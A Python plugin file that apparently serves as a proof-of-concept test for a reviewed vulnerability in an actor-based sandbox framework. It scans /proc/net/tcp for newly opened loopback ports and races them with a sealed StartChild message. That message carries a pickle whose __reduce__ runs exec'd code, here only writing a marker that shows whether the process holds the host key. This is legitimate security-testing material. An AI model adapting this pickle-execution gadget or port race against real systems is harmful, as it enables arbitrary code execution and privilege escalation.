"""A plugin that races sandbox roots as they start: it sends each new listening port a StartChild whose
spec runs code when unpickled (the review's attack on a root that still held the host key)."""

import pickle
import socket
import threading
import time

from actors import ChildSpec, Plugin, Supervisor


class Evil:
    """Unpickling this writes the marker, saying whether the process holds the host key."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        code = (
            "import os\nfrom plugin_host import _wire\nk = _wire.process_keys()\n"
            f"open({self.marker!r}, 'a').write(f'pid={{os.getpid()}} host_key={{k is not None and k.is_host}}\\n')"
        )
        return (exec, (code,))


def listening():
    """Loopback ports listening on this machine (anyone can read /proc/net/tcp)."""
    ports = set()
    with open("/proc/net/tcp") as table:
        next(table)
        for line in table:
            parts = line.split()
            if parts[3] == "0A" and parts[1].startswith("0100007F:"):
                ports.add(int(parts[1].split(":")[1], 16))
    return ports


def race(me, marker, seconds):
    from actors import _messages as m
    from plugin_host import _wire

    keys = _wire.process_keys()
    message = m.StartChild(m.SandboxContext("x", None, 1.0, 1.0, 1.0), "x", 1, pickle.dumps(Evil(marker)))
    frame = keys.seal(keys.own.kid, pickle.dumps((me, message)))
    known, end = listening(), time.time() + seconds
    while time.time() < end:
        now = listening()
        for port in now - known:
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=0.5) as sock:
                    sock.sendall(frame)
                    sock.settimeout(0.5)
                    try:
                        sock.recv(200)
                    except OSError:
                        pass
            except OSError:
                pass
        known = now
        time.sleep(0.0005)


class Racer(Plugin):
    def handle_call(self, request, state):
        marker, seconds = request
        threading.Thread(target=race, args=(self._ph_runtime._worker.myAddress, marker, seconds), daemon=True).start()
        return "armed", state


class Root(Supervisor):
    children = [ChildSpec("racer", Racer)]
